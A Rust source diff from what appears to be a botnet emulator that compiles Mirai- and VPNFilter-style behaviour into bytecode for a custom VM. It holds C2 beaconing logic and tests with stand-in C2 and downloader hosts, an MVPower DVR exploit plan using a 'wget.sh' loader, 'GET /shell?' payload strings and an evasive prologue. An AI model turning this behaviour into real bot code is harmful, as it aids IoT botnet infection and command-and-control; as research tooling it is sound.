+/// VPNFilter: low-and-slow HTTPS-ish beaconing to a staging host.
+fn compile_vpnfilter(spec: &BehaviorSpec, b: &mut ProgramBuilder, n: &mut Names) {
+    let (get_off, get_len) = b.blob_str("GET /update/check HTTP/1.1\r\nHost: cdn\r\n\r\n");
+    b.label("vf_loop");
+    let fail = n.next("vf_fail");
+    match spec.c2.first() {
+        Some((C2Endpoint::Domain(d), port)) => {
+            let port = *port;
+            let d = d.clone();
+            emit_resolve(b, n, spec.resolver, &d, R_C2IP, &fail);
+            emit_vpnfilter_beacon(b, port, get_off, get_len);
+        }
+        Some((C2Endpoint::Ip(ip), port)) => {
+            b.op(Op::Ldi {
+                r: R_C2IP,
+                a: u32::from(*ip),
+            });
+            emit_vpnfilter_beacon(b, *port, get_off, get_len);
+        }
+        None => {}
+    }
+    b.label(&fail);
+    b.op(Op::SleepMs { a: 300_000 });
+    b.jump(Op::Jmp { a: 0 }, "vf_loop");
+}
+
+fn emit_vpnfilter_beacon(b: &mut ProgramBuilder, port: u16, get_off: u32, get_len: u32) {
+    b.op(Op::Socket {
+        r: R_C2FD,
+        kind: SockKind::Tcp,
+    })
+    .op(Op::Connect {
+        r: R_RES,
+        x: R_C2FD,
+        y: R_C2IP,
+        a: u32::from(port),
+        b: 0,
+    })
+    .op(Op::Send {
+        x: R_C2FD,
+        a: get_off,
+        b: get_len,
+    })
+    .op(Op::Recv {
+        r: R_LEN,
+        x: R_C2FD,
+        a: 5000,
+    })
+    .op(Op::Close { x: R_C2FD });
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::botvm::decode_all;
+    use crate::exploitdb::VulnId;
+    use crate::spec::ExploitPlan;
+
+    fn mirai_spec() -> BehaviorSpec {
+        BehaviorSpec {
+            family: Family::Mirai,
+            c2: vec![(C2Endpoint::Ip(Ipv4Addr::new(10, 1, 0, 5)), 23)],
+            exploits: vec![ExploitPlan {
+                vuln: VulnId::MvpowerDvr,
+                downloader: Ipv4Addr::new(10, 1, 0, 5),
+                loader: "wget.sh".into(),
+                full_gpon: true,
+            }],
+            ..Default::default()
+        }
+    }
+
+    #[test]
+    fn all_families_compile_to_valid_bytecode() {
+        for family in Family::ALL {
+            let mut spec = mirai_spec();
+            spec.family = family;
+            if family.is_p2p() {
+                spec.c2.clear();
+                spec.peers = vec![(Ipv4Addr::new(10, 9, 0, 1), 14737)];
+            }
+            if family == Family::VpnFilter {
+                spec.c2 = vec![(C2Endpoint::Domain("cdn.example.org".into()), 80)];
+            }
+            let prog = compile(&spec);
+            let ops = decode_all(&prog.bytecode)
+                .unwrap_or_else(|| panic!("{family}: undecodable bytecode"));
+            assert!(ops.len() > 10, "{family}: suspiciously small program");
+            // All jump targets in range.
+            for op in &ops {
+                if let Op::Jmp { a }
+                | Op::Jeq { a, .. }
+                | Op::Jne { a, .. }
+                | Op::Jlt { a, .. } = op
+                {
+                    assert!(
+                        (*a as usize) < ops.len(),
+                        "{family}: jump to {a} out of {}",
+                        ops.len()
+                    );
+                }
+            }
+        }
+    }
+
+    #[test]
+    fn evasive_prologue_present_only_when_asked() {
+        let mut spec = mirai_spec();
+        spec.evasive = false;
+        let plain = compile(&spec);
+        spec.evasive = true;
+        let evasive = compile(&spec);
+        assert!(evasive.bytecode.len() > plain.bytecode.len());
+        // Evasive program embeds a DNS query for the canary domain.
+        let blob = String::from_utf8_lossy(&evasive.blob);
+        assert!(blob.contains("busybox-cdn"));
+    }
+
+    #[test]
+    fn c2_strings_visible_in_blob() {
+        let mut spec = mirai_spec();
+        spec.c2 = vec![(C2Endpoint::Domain("cnc.botnet.example".into()), 23)];
+        let prog = compile(&spec);
+        let blob = String::from_utf8_lossy(&prog.blob);
+        // DNS wire encoding splits on labels; the longest label survives.
+        assert!(blob.contains("botnet"), "{blob}");
+    }
+
+    #[test]
+    fn exploit_payloads_embedded() {
+        let prog = compile(&mirai_spec());
+        let blob = String::from_utf8_lossy(&prog.blob);
+        assert!(blob.contains("GET /shell?"));
+        assert!(blob.contains("wget.sh"));
+    }
+
+    #[test]
+    fn domain_resolution_answer_offset_formula() {
+        // "ab.cd" encodes to 2+2+2+1 = 7 bytes = len+2.
+        let name = "ab.cd";
+        let dn = DomainName::new(name).unwrap();
+        let q = DnsMessage::query(1, dn.clone()).encode();
+        assert_eq!(q.len(), 12 + name.len() + 2 + 4);
+        // The answer section in our resolver's reply puts the A rdata at
+        // 12 + (qname+4) + qname + 10.
+        let reply = DnsMessage::answer(1, dn, &[Ipv4Addr::new(9, 8, 7, 6)]).encode();
+        let qname = name.len() + 2;
+        let off = 12 + qname + 4 + qname + 10;
+        assert_eq!(&reply[off..off + 4], &[9, 8, 7, 6]);
+    }
+}
